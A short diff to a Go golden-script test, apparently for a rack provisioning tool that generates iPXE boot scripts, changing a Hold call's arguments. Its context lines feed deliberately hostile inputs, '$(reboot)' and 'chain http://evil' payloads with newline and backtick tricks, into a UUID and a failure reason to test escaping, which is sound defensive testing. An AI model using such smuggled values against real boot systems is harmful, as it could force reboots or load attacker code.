@@ -100,7 +100,7 @@ func localBoot(how inventory.LocalBoot) func(*inventory.Config) {
 
 func TestGoldenScripts(t *testing.T) {
 	adopt := func(r *lifecycle.Rack) error { _, err := r.Adopt(context.Background(), "kmaster"); return err }
-	hold := func(r *lifecycle.Rack) error { _, err := r.Hold(context.Background(), "kmaster"); return err }
+	hold := func(r *lifecycle.Rack) error { _, err := r.Hold(context.Background(), "kmaster", "", ""); return err }
 	hostile := func(r *lifecycle.Rack) error {
 		r.See(lifecycle.Sighting{MAC: macUnknown, UUID: "$(reboot) || chain http://evil"})
 		_, err := r.Fail(context.Background(), "kmaster", "${net0/x} || chain http://evil\nboot # \" `x`", false)
